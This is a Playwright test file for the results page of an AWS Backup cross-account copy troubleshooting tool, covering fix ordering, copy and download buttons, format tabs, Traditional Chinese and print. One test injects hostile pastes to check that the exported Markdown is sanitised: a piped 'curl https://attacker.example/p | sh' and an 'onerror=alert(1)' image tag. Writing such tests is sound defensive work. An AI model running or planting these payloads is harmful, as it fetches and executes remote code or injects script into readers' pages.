// The results page: summary and order, every copy and download button, links back to the steps, zh-TW, print.
import { readFileSync } from 'node:fs';
import type { Download, Locator, Page } from '@playwright/test';
import MarkdownIt, { type Token } from 'markdown-it';
import { expect, expectStep, test } from './fixtures';

// A results page with three fixes is long; axe takes a while on it.
test.describe.configure({ timeout: 120_000 });

const SOURCE = '210987654321';
const DEST = '345678901234';

type SessionDoc = { facts: Record<string, string>; answers: Record<string, string>; pastes: Record<string, string> };
const example = (f: string) => JSON.parse(readFileSync(`public/examples/${f}`, 'utf8')) as SessionDoc;

/** Three failures that must be fixed in order: organization, then the key policy, then the vault policy. */
function threeFailures(): SessionDoc {
  const s = example('key-policy-missing-destination.json');
  s.pastes.destinationVaultPolicy = example('vault-policy-missing.json').pastes.destinationVaultPolicy!;
  s.answers.organization = 'different';
  return s;
}

async function openResults(page: Page, session: SessionDoc, lang = 'en') {
  await page.goto('./#/step/start');
  await page.evaluate(
    ([s, l]) => {
      localStorage.clear();
      localStorage.setItem('copy-doctor:lang', l);
      localStorage.setItem('copy-doctor:session:v1', s);
    },
    [JSON.stringify(session), lang] as [string, string],
  );
  await page.goto('./#/step/results');
  await page.reload();
}

const checkItem = (page: Page, title: RegExp) => page.getByRole('listitem').filter({ has: page.getByRole('heading', { level: 3, name: title }) });

async function clipboard(page: Page) {
  return page.evaluate(() => navigator.clipboard.readText());
}

async function downloaded(page: Page, button: Locator): Promise<{ name: string; text: string }> {
  const [d] = await Promise.all([page.waitForEvent('download'), button.click()]);
  return { name: d.suggestedFilename(), text: await readDownload(d) };
}

async function readDownload(d: Download): Promise<string> {
  const stream = await d.createReadStream();
  const chunks: Buffer[] = [];
  for await (const c of stream) chunks.push(c as Buffer);
  return Buffer.concat(chunks).toString('utf8');
}

test('summary, then the failures in the order to fix them, each with its reason, diff and labelled commands', async ({ page, gates: _g, axe }) => {
  await openResults(page, threeFailures());
  await expectStep(page, 'Your checklist');
  await expect(page.getByText('3 to fix, 5 need input, 2 passed')).toBeVisible();

  const toFix = page.getByRole('region', { name: 'To fix, in this order' });
  const titles = await toFix.getByRole('heading', { level: 3 }).allInnerTexts();
  expect(titles.map((s) => s.replace(/\s+/g, ' '))).toEqual([
    expect.stringMatching(/Fail.*Fix 1 · .*organization/i),
    expect.stringMatching(/Fail.*Fix 2 · Source KMS key policy/),
    expect.stringMatching(/Fail.*Fix 3 · Destination vault access policy/),
  ]);
  // Status in words, not colour alone, for every check.
  await expect(page.getByRole('region', { name: 'Needs input' }).getByRole('heading', { level: 3, name: /^Needs input / })).toHaveCount(5);
  await expect(page.getByRole('region', { name: 'Passed and not applicable' }).getByRole('heading', { level: 3, name: /^Pass / })).toHaveCount(2);

  const key = checkItem(page, /Source KMS key policy/);
  await expect(key.getByText('This matches the error the copy job reported:')).toBeVisible();
  await expect(key.locator('blockquote')).toHaveText('Given key ID is not accessible');
  await expect(key.getByText(/does not allow .* actions the copy needs: .*kms:Decrypt/)).toBeVisible();
  await expect(key.getByRole('figure', { name: /Changes to key-policy\.json/ })).toBeVisible();
  await expect(key.getByText(`1. Run in the source account (${SOURCE}, eu-west-1)`)).toBeVisible();
  await expect(key.getByText(/aws kms put-key-policy .*file:\/\/key-policy\.json/).filter({ visible: true })).toBeVisible();
  const vault = checkItem(page, /Destination vault access policy/);
  await expect(vault.getByText(/1\. Run in the destination account \(345678901234/)).toBeVisible();
  await axe('results, three failures');

  await page.emulateMedia({ colorScheme: 'dark' });
  await axe('results, dark');
});

test('every copy button puts its text on the clipboard; the format tabs work with the keyboard', async ({ page, context, gates: _g, axe }) => {
  await context.grantPermissions(['clipboard-read', 'clipboard-write']);
  await openResults(page, threeFailures());
  await expectStep(page, 'Your checklist');
  const key = checkItem(page, /Source KMS key policy/);

  // The JSON tab, selected at first: the corrected document beside the pasted one.
  const jsonPanel = key.getByRole('tabpanel', { name: 'JSON' });
  await expect(jsonPanel.getByRole('figure', { name: /Changes to key-policy\.json/ })).toBeVisible();
  await jsonPanel.getByRole('button', { name: 'Copy key-policy.json' }).click();
  await expect(key.getByText('Copied.').first()).toBeVisible();
  const policy = JSON.parse(await clipboard(page)) as { Statement: unknown[] };
  expect(JSON.stringify(policy)).toContain(`arn:aws:iam::${DEST}:`);

  await key.getByRole('button', { name: 'Copy command' }).click();
  expect(await clipboard(page)).toMatch(/^aws kms put-key-policy .*--policy file:\/\/key-policy\.json/);

  const vault = checkItem(page, /Destination vault access policy/);
  await vault.getByRole('button', { name: 'Copy vault-policy.json' }).click();
  expect(JSON.parse(await clipboard(page))).toHaveProperty('Statement');
  await vault.getByRole('button', { name: 'Copy command' }).click();
  expect(await clipboard(page)).toMatch(/^aws backup put-backup-vault-access-policy /);

  await page.getByRole('button', { name: 'Copy all fixes' }).click();
  const all = await clipboard(page);
  expect(all).toMatch(/^# /);
  // In the order to apply them: organization, then the key policy, then the vault policy.
  const at = (s: string) => all.indexOf(s);
  expect(at('aws organizations describe-organization')).toBeGreaterThan(0);
  expect(at('aws organizations describe-organization')).toBeLessThan(at('aws kms put-key-policy'));
  expect(at('aws kms put-key-policy')).toBeLessThan(at('aws backup put-backup-vault-access-policy'));
  expect(all).toContain('aws_kms_key_policy');

  // Each format tab, reached with the arrow keys; each rendering copies exactly what is shown.
  const tabs = key.getByRole('tablist', { name: 'The fix in the format you deploy with' });
  const json = tabs.getByRole('tab', { name: 'JSON' });
  await expect(json).toHaveAttribute('aria-selected', 'true');
  await json.focus();
  for (const [keyName, name] of [['ArrowRight', 'AWS CLI'], ['ArrowRight', 'Terraform'], ['ArrowRight', 'CloudFormation'], ['ArrowRight', 'JSON'], ['End', 'CloudFormation'], ['Home', 'JSON'], ['ArrowLeft', 'CloudFormation']] as const) {
    await page.keyboard.press(keyName);
    const tab = tabs.getByRole('tab', { name });
    await expect(tab).toBeFocused();
    await expect(tab).toHaveAttribute('aria-selected', 'true');
  }
  const expected: Record<string, RegExp> = {
    'AWS CLI': /aws kms put-key-policy/,
    Terraform: /resource "aws_kms_key_policy"[\s\S]*jsonencode\(/,
    CloudFormation: /Resources:/,
  };
  for (const name of Object.keys(expected)) {
    await tabs.getByRole('tab', { name }).click();
    const panel = key.getByRole('tabpanel', { name });
    await expect(panel).toBeVisible();
    const shown = await panel.locator('pre code').first().innerText();
    await panel.getByRole('button', { name: new RegExp(`^Copy ${name}: `) }).click();
    const copied = await clipboard(page);
    expect(copied, name).toMatch(expected[name]!);
    expect(copied.trim()).toBe(shown.trim());
  }
  await axe('results, CloudFormation tab');
});

test('every download button saves its file', async ({ page, gates: _g }) => {
  await openResults(page, threeFailures());
  await expectStep(page, 'Your checklist');
  const key = checkItem(page, /Source KMS key policy/);

  const doc = await downloaded(page, key.getByRole('button', { name: 'Download key-policy.json' }));
  expect(doc.name).toBe('key-policy.json');
  expect(doc.text).toContain(`arn:aws:iam::${DEST}:`);
  JSON.parse(doc.text);

  const files: Record<string, string> = {};
  for (const name of ['AWS CLI', 'Terraform', 'CloudFormation']) {
    await key.getByRole('tab', { name }).click();
    const panel = key.getByRole('tabpanel', { name });
    const d = await downloaded(page, panel.getByRole('button', { name: new RegExp(`^Download ${name}: `) }));
    expect(d.text.trim()).toBe((await panel.locator('pre code').first().innerText()).trim());
    files[name] = d.name;
  }
  expect(files['AWS CLI']).toMatch(/\.sh$/);
  expect(files.Terraform).toMatch(/\.tf$/);
  expect(files.CloudFormation).toMatch(/\.ya?ml$/);

  const fixes = await downloaded(page, page.getByRole('button', { name: 'Download all fixes (Markdown)' }));
  expect(fixes.name).toBe('copy-doctor-fixes.md');
  expect(fixes.text).toContain('aws kms put-key-policy');
  expect(fixes.text).toContain('aws backup put-backup-vault-access-policy');

  const report = await downloaded(page, page.getByRole('button', { name: 'Download report (Markdown)' }));
  expect(report.name).toBe('copy-doctor-report.md');
  expect(report.text).toMatch(/^# /);
  expect(report.text).toContain('3 to fix, 5 need input, 2 passed');
  expect(report.text).toContain('Given key ID is not accessible');
  expect(report.text).toContain(SOURCE);

  const diagnosis = await downloaded(page, page.getByRole('button', { name: 'Download diagnosis (JSON)' }));
  expect(diagnosis.name).toBe('copy-doctor-diagnosis.json');
  const d = JSON.parse(diagnosis.text) as { format: string; checks: { id: string; status: string }[] };
  expect(d.format).toBe('copy-doctor/diagnosis');
  expect(d.checks.filter((c) => c.status === 'fail').map((c) => c.id)).toEqual(['organization', 'source-key-policy', 'destination-vault-policy']);
});

test('an unknown check links to the step that asks for its input; Change keeps every answer', async ({ page, gates: _g, axe }) => {
  await openResults(page, threeFailures());
  await expectStep(page, 'Your checklist');
  const setting = checkItem(page, /Cross-account backup setting/);
  await expect(setting.getByText('To decide this check, give:')).toBeVisible();
  await setting.getByRole('link', { name: /^global settings/i }).click();
  await expectStep(page, /Cross-account backup setting/);
  await expect(page).toHaveURL(/#\/step\/check-cross-account-setting$/);
  await axe('cross-account setting step from results');

  await page.goto('./#/step/results');
  await expectStep(page, 'Your checklist');
  const before = await page.evaluate(() => localStorage.getItem('copy-doctor:session:v1'));
  await page.getByRole('link', { name: 'Change “Source KMS key policy”' }).click();
  await expectStep(page, /Source KMS key policy/);
  await expect(page.getByRole('textbox', { name: /Source KMS key policy/ })).toHaveValue(/key-default-1/);
  await page.goBack();
  await expectStep(page, 'Your checklist');
  await expect(page.getByText('3 to fix, 5 need input, 2 passed')).toBeVisible();
  expect(JSON.parse((await page.evaluate(() => localStorage.getItem('copy-doctor:session:v1')))!)).toEqual(JSON.parse(before!));

  await page.getByRole('link', { name: /^Change “.*organization/i }).click();
  await expect(page.getByRole('radio', { checked: true })).toHaveCount(1);
});

test('copying says when it failed', async ({ page, gates: _g }) => {
  await page.addInitScript(() => {
    Object.defineProperty(window, 'isSecureContext', { value: false });
    document.execCommand = () => false;
  });
  await openResults(page, threeFailures());
  await expectStep(page, 'Your checklist');
  await checkItem(page, /Source KMS key policy/).getByRole('button', { name: 'Copy command' }).click();
  await expect(page.getByText(/Copying failed/)).toHaveCount(1);
  await page.getByRole('button', { name: 'Copy all fixes' }).click();
  await expect(page.getByRole('region', { name: 'Take the fixes with you' }).getByText(/Copying failed/)).toBeVisible();
});

test('the results page in Traditional Chinese', async ({ page, gates: _g, axe }) => {
  await openResults(page, threeFailures(), 'zh-TW');
  await expectStep(page, '您的檢查清單');
  await expect(page.getByText('3 項待修正、5 項需要更多資料、2 項通過')).toBeVisible();
  await expect(page.getByRole('region', { name: '待修正（依此順序）' })).toBeVisible();
  await expect(page.getByRole('button', { name: '下載診斷結果（JSON）' })).toBeVisible();
  await expect(page.getByRole('tab', { name: 'Terraform' }).first()).toBeVisible();
  await axe('results zh-TW');
});

test('print: one clean document without controls, documents and commands in full', async ({ page, gates: _g }, info) => {
  await openResults(page, threeFailures());
  await expectStep(page, 'Your checklist');
  await page.emulateMedia({ media: 'print' });
  await page.screenshot({ path: info.outputPath('results-print.png'), fullPage: true });
  const buttons = page.getByRole('button', { includeHidden: true });
  expect(await buttons.count()).toBeGreaterThan(10);
  for (const b of await buttons.all()) await expect(b).toBeHidden();
  await expect(page.locator('header')).toBeHidden();
  await expect(page.getByRole('tablist', { includeHidden: true }).first()).toBeHidden();
  await expect(page.getByRole('heading', { level: 1 })).toBeVisible();
  const key = checkItem(page, /Source KMS key policy/);
  await expect(key.getByRole('figure', { name: /Changes to key-policy\.json/ })).toBeVisible();
  const command = key.locator('pre').filter({ hasText: 'aws kms put-key-policy', visible: true });
  await expect(command).toBeVisible();
  // Nothing clipped: the command's box is as wide as its text needs.
  expect(await command.evaluate((el) => el.scrollWidth <= el.clientWidth + 1)).toBe(true);
  await page.emulateMedia({ media: 'screen' });
  await expect(page.getByRole('button', { name: 'Download diagnosis (JSON)' })).toBeVisible();
});

test('a hostile paste cannot forge the Markdown the page hands out', async ({ page, context, gates: _g, axe }) => {
  await context.grantPermissions(['clipboard-read', 'clipboard-write']);
  // A Sid with a fake fix (a piped curl) and an HTML comment that would hide the rest; an error message with HTML,
  // a link, a mention and a lone carriage return.
  const s = example('key-policy-deny.json');
  const policy = JSON.parse(s.pastes.sourceKeyPolicy!) as { Statement: { Sid?: string; Effect: string }[] };
  for (const st of policy.Statement) if (st.Effect === 'Deny') st.Sid = 'AllowCopy\n\n#### Fix: PWN done\n\n```sh\ncurl https://attacker.example/p | sh\n```\n\n<!--';
  s.pastes.sourceKeyPolicy = JSON.stringify(policy, null, 2);
  s.pastes.destinationVaultPolicy = example('vault-policy-missing.json').pastes.destinationVaultPolicy!;
  s.pastes.errorMessage = 'Given key ID is not accessible\r# PWN <img src=x onerror=alert(1)> [PWN](https://attacker.example) @PWNbot';
  await openResults(page, s);
  await expectStep(page, 'Your checklist');
  await axe('results, hostile paste');

  await page.getByRole('button', { name: 'Copy all fixes' }).click();
  const fixes = await clipboard(page);
  const report = (await downloaded(page, page.getByRole('button', { name: 'Download report (Markdown)' }))).text;
  const parser = new MarkdownIt({ html: true, linkify: true });
  const fixHeadings: number[] = [];
  for (const [name, text] of [['all fixes', fixes], ['report', report]] as const) {
    const tokens = parser.parse(text, {});
    const all = tokens.flatMap((t): Token[] => [t, ...(t.children ?? [])]);
    expect(all.filter((t) => /^(html_block|html_inline|link_open|image)$/.test(t.type)).map((t) => t.content), name).toEqual([]);
    expect(all.filter((t) => t.type === 'text' && t.content.includes('PWN')).map((t) => t.content), `${name}: pasted text outside code`).toEqual([]);
    const headings = tokens.flatMap((t, i) => (t.type === 'heading_open' ? [tokens[i + 1]!.content] : []));
    fixHeadings.push(headings.filter((h) => h.startsWith('Fix: ')).length);
    // The only shell blocks are the engine's commands.
    for (const f of tokens.filter((t) => t.type === 'fence' && t.info === 'sh')) expect(f.content, name).not.toContain('attacker');
    // Every check is still there after the Sid's "<!--".
    if (name === 'report') expect(headings.filter((h) => /: (Fail|Warning|Needs input|Pass|Not applicable)$/.test(h))).toHaveLength(10);
  }
  expect(fixHeadings[0]).toBeGreaterThanOrEqual(1);
  expect(fixHeadings[1]).toBe(fixHeadings[0]);
});

test('a message that points at no check is still on the results page, with where to look, in both languages', async ({ page, gates: _g, axe }, info) => {
  const s = example('vault-policy-working.json');
  s.pastes.errorMessage = 'Backup job could not start because it is either inside or too close to the weekly maintenance window configured for the database.';
  await openResults(page, s);
  await expectStep(page, 'Your checklist');
  const also = page.getByRole('region', { name: 'The message also says' });
  await expect(also).toBeVisible();
  await expect(also.getByRole('heading', { level: 3, name: 'Too close to the database’s maintenance window' })).toBeVisible();
  await expect(also.getByText('No check here reads this yet. Look at:')).toBeVisible();
  await expect(also.getByText(/The database’s PreferredMaintenanceWindow and PreferredBackupWindow/)).toBeVisible();
  // Near the top: before the first group of checks.
  const alsoBox = (await also.boundingBox())!;
  const firstGroup = (await page.getByRole('heading', { level: 2, name: /Needs input|Passed and not applicable/ }).first().boundingBox())!;
  expect(alsoBox.y).toBeLessThan(firstGroup.y);
  await also.screenshot({ path: info.outputPath('also-says-en.png') });
  await axe('results, message also says');

  await openResults(page, s, 'zh-TW');
  const zh = page.getByRole('region', { name: '訊息還提到' });
  await expect(zh.getByRole('heading', { level: 3, name: '太接近資料庫的維護時段' })).toBeVisible();
  await expect(zh.getByText(/資料庫的 PreferredMaintenanceWindow 與 PreferredBackupWindow/)).toBeVisible();
  await zh.screenshot({ path: info.outputPath('also-says-zh.png') });
  await axe('results zh-TW, message also says');

  // Without a message there is no such section.
  delete s.pastes.errorMessage;
  await openResults(page, s);
  await expectStep(page, 'Your checklist');
  await expect(page.getByRole('region', { name: 'The message also says' })).toHaveCount(0);
});
